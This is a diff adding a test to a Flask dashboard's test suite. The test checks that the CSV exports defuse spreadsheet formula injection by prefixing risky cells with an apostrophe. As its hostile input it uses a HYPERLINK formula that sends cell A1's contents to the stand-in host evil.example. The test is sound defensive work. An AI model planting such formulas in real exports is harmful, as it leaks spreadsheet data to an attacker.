@@ -112,3 +112,24 @@ def test_drill_down_exports(app: Flask, as_admin: FlaskClient, dash: Demo) -> No
         ("ideal", "b"),
     ]
     assert float(rows[2]["contribution"]) == data["ranked"][2]["contribution"]
+
+
+def test_csv_exports_defuse_formula_cells(app: Flask, as_admin: FlaskClient, dash: Demo) -> None:
+    """A query text a spreadsheet would run as a formula is exported with a leading
+    apostrophe in every dashboard CSV; ids that are plain numbers stay as they are."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with app.app_context():
+        query = db.session.scalar(sa.select(Query).where(Query.qid == "q1"))
+        query.text = hostile
+        db.session.commit()
+    urls = [
+        f"/export/runs/{dash.run_a}/queries.csv?k=3",
+        "/export/overview.csv",
+        f"/export/compare.csv?run={dash.run_a}&run={dash.run_b}",
+    ]
+    for url in urls:
+        body = as_admin.get(dash.url(url)).get_data(as_text=True)
+        for row in csv.reader(io.StringIO(body)):
+            assert not any(cell.startswith(("=", "+", "@")) for cell in row), (url, row)
+    run_rows = _rows(as_admin.get(dash.url(urls[0])).data)
+    assert {r["qid"]: r["query"] for r in run_rows}["q1"] == "'" + hostile
